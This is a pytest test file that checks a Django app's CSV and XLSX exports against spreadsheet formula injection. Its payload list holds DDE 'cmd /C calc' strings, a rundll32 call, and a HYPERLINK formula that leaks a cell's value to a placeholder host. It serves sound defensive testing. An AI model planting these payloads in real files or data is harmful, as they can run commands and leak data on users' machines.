"""S8: no export holds a cell that a spreadsheet would run, whatever people wrote; negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.utils import timezone

from accounts.models import Action, Objective, Plan
from common import jobs
from common.imports import Table
from common.models import ImportBatch
from financials.actions.contracts import mark_clients_dirty
from financials.models import Invoice, LedgerEntry, LedgerMonth, PurchaseOrder
from portfolio.imports.reports import Report
from tests import databases
from tests.makers import make_client, make_contact, make_contract, make_opportunity, make_stakeholding
from tests.sweeps.withheld import body_of
from tests.sweeps.world import World

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "−1+1", '"=1+1"', '","=1+1', "=2+5+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")A0', '=HYPERLINK("https://x.example?leak="&A1,"Click")', '=IMPORTXML("https://x.example","//a")',
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "{=1+1}",
)  # fmt: skip
NUL = "\x00=1+1"  # the database holds no NUL; a file that is refused may
FILES = (
    "/export/clients.{}",
    "/clients/?format={}&columns=tier&columns=status&columns=industry&columns=owner&columns=country&columns=parent&columns=next",
    "/pipeline/?outcome=&format={}",
    "/contracts/?format={}",
    "/contracts/?report=renewals&format={}",
    "/financials/entries/?format={}",
    "/financials/pnl/?format={}",
    "/forecast.{}",
    "/financials/retention/?format={}",
    "/financials/receivables/?format={}",
    "/financials/invoices/?format={}",
    "/financials/purchase-orders/?format={}",
)
REPORTS = ("client", "contract", "service_line", "owner", "industry")
_STARTS = re.compile(r"[\s\u0000-\u001f\ufeff\u200b]*[=+\-@＝＋－＠−]")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.fixture(scope="module")
def written(built: World, django_db_blocker: Any) -> World:
    with django_db_blocker.unblock():
        written = write_payloads(built)
        databases.settle()
        return written


@pytest.fixture
def hostile(written: World, world: World) -> World:
    return written


def write_payloads(world: World) -> World:
    """Every payload in every text of a client and what hangs on it; and a month of minus 1,234.50."""
    director, clients = world.people["director"], []
    for number, text in enumerate(PAYLOADS):
        client = make_client(f"{text} {number}", owner=director, name=text, industry=text, country="DE")
        make_stakeholding(client, contact=make_contact(client, first_name=text, last_name=text, title=text))
        make_opportunity(client, key=f"{text} o{number}", name=text, stage=text, next_step=text, offering=text)
        contract = make_contract(client, number=f"{text} c{number}", title=text, service_line=text, uplift=text[:40])
        plan = Plan.objects.create(client=client, starts_on=date(2026, 1, 1), ambition=text)
        objective = Objective.objects.create(plan=plan, title=text, position=1)
        Action.objects.create(objective=objective, title=text, next_step=text, due=date(2026, 12, 1), position=1)
        _entry(client, contract, text, number)
        _owed(client, contract, text, number)
        clients.append(client.pk)
    mark_clients_dirty(clients)
    jobs.work("recompute")
    return world


def _entry(client: Any, contract: Any, text: str, number: int) -> None:
    where = {
        "client": client, "contract": contract, "service_line": text, "month": date(2026, 9, 1),
        "line": "gross_revenue", "currency": "USD", "amount": Decimal("-1234.50"),
    }  # fmt: skip
    LedgerEntry.objects.create(source_ref=f"{text} e{number}", description=text, posted_at=timezone.now(), **where)
    LedgerMonth.objects.create(entries=1, **where)


def _owed(client: Any, contract: Any, text: str, number: int) -> None:
    where = {"client": client, "contract": contract, "currency": "USD", "issued": date(2026, 9, 1)}
    order = PurchaseOrder.objects.create(number=f"{text} p{number}", amount=Decimal(9), **where)
    Invoice.objects.create(
        number=f"{text} i{number}", due=date(2026, 9, 30), amount=Decimal("-5.00"), po_number=order.number, **where
    )


def cells_of(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_tame(cells: list[str]) -> None:
    wild = [cell for cell in cells if (_STARTS.match(cell) or cell[:1] in "\t\r\n\0") and not _NUMBER.fullmatch(cell)]
    assert [cell for cell in wild if cell] == []


@pytest.mark.parametrize("address", FILES, ids=lambda address: address.split("?")[0])
def test_csv_quotes_what_a_spreadsheet_would_run(hostile: World, address: str) -> None:
    answer = hostile.browser(hostile.people["director"]).get(address.format("csv"))
    assert answer.status_code == 200
    cells = cells_of(body_of(answer))
    assert_tame(cells)
    if "pnl" not in address:  # by month, it names no client
        assert any(cell.startswith("'=") for cell in cells)
        assert any(cell.startswith("'＝") for cell in cells)
    if "entries" in address:
        assert cells.count("-1234.5000") == len(PAYLOADS)


@pytest.mark.parametrize("address", FILES, ids=lambda address: address.split("?")[0])
def test_workbooks_hold_no_formula(hostile: World, address: str) -> None:
    answer = hostile.browser(hostile.people["director"]).get(address.format("xlsx"))
    assert answer.status_code == 200
    found = assert_no_formula(body_of(answer))
    if "entries" in address:
        assert found.count(-1234.5) == len(PAYLOADS)
        assert "=1+1" in found


def assert_no_formula(body: bytes) -> list[Any]:
    """The values of all cells, having found none that is a formula or a link."""
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name.lower()]
    assert not any(b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet for sheet in sheets)
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells]


@pytest.mark.parametrize("group", REPORTS)
def test_reports_of_the_api(hostile: World, group: str) -> None:
    headers = hostile.bearer(hostile.people["director"])
    browser = hostile.browser(None)
    address = f"/api/v1/reports/pnl/?from=2026-01&to=2026-10&group_by={group}"
    as_csv = browser.get(f"{address}&format=csv", headers=headers)
    as_xlsx = browser.get(f"{address}&format=xlsx", headers=headers)
    assert (as_csv.status_code, as_xlsx.status_code) == (200, 200)
    cells = cells_of(body_of(as_csv))
    assert_tame(cells)
    assert_no_formula(body_of(as_xlsx))
    if group != "owner":
        assert "-1234.50" in cells


TABLES = (
    "retention/?to=2026-10&group_by=client",
    "receivables/?as_of=2026-10-31&group_by=client",
    "renewals/?as_of=2026-11-23",
    "margin-bridge/?from=2026-08&to=2026-09&group_by=client",
    "pipeline/?group_by=client,stage,category,month",
    "pnl/?from=2026-01&to=2026-10&group_by=client,contract,service_line,month",
)


@pytest.mark.parametrize("address", TABLES, ids=lambda address: address.split("/")[0])
def test_tables_of_the_api(hostile: World, address: str) -> None:
    headers = hostile.bearer(hostile.people["director"])
    browser = hostile.browser(None)
    as_csv = browser.get(f"/api/v1/reports/{address}&format=csv", headers=headers)
    as_xlsx = browser.get(f"/api/v1/reports/{address}&format=xlsx", headers=headers)
    assert (as_csv.status_code, as_xlsx.status_code) == (200, 200)
    cells = cells_of(body_of(as_csv))
    assert_tame(cells)
    assert any(cell.startswith("'=1+1") for cell in cells)
    assert any(str(value).startswith("=1+1") for value in assert_no_formula(body_of(as_xlsx)))


def test_the_file_of_refused_rows(world: World) -> None:
    rows = [[text, "x"] for text in (*PAYLOADS, NUL)]
    header = ["=name", "other"]
    columns: dict[str, Sequence[str]] = {name: [row[place] for row in rows] for place, name in enumerate(header)}
    table = Table(header=header, rows=rows, lines=range(2, len(rows) + 2), columns=columns)
    for position, (text, _) in enumerate(rows):
        table.rejected[position].append(f"{text} is no name")
    report = Report(kind="clients", file="c.csv")
    report.take_rejects(table)
    ImportBatch.objects.filter(pk=world.batch.pk).update(rejects=report.rejects_csv())
    answer = world.browser(world.people["director"]).get(f"/imports/{world.batch.pk}/rejects.csv")
    cells = cells_of(body_of(answer))
    assert_tame(cells)
    assert "'=name" in cells
    assert f"'{NUL}" in cells
